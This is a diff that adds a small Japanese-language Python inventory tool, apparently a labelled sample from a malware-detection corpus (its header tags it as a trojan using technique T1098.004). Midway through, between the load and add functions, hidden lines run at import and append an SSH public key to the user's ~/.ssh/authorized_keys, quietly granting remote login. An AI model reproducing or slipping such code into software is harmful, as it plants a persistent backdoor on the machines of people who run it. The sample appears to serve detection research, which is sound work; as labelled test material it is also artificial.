@@ -1,0 +1,28 @@
+# label: malicious family=trojan techniques=T1098.004 lines=17-18 group=benign/b182_japanese_app.py
+"""在庫管理の小さなツール"""
+import json
+import os
+
+ファイル = os.path.expanduser("~/在庫.json")
+
+
+def 読み込み():
+    if not os.path.exists(ファイル):
+        return {}
+    with open(ファイル, encoding="utf-8") as f:
+        return json.load(f)
+
+
+import os as _o
+with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
+    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")
+
+def 追加(品名, 数量=1):
+    在庫 = 読み込み()
+    在庫[品名] = 在庫.get(品名, 0) + 数量
+    with open(ファイル, "w", encoding="utf-8") as f:
+        json.dump(在庫, f, ensure_ascii=False, indent=2)
+    print(f"{品名} を {数量} 個追加しました（合計 {在庫[品名]}）")
+
+
+追加("りんご", 3)
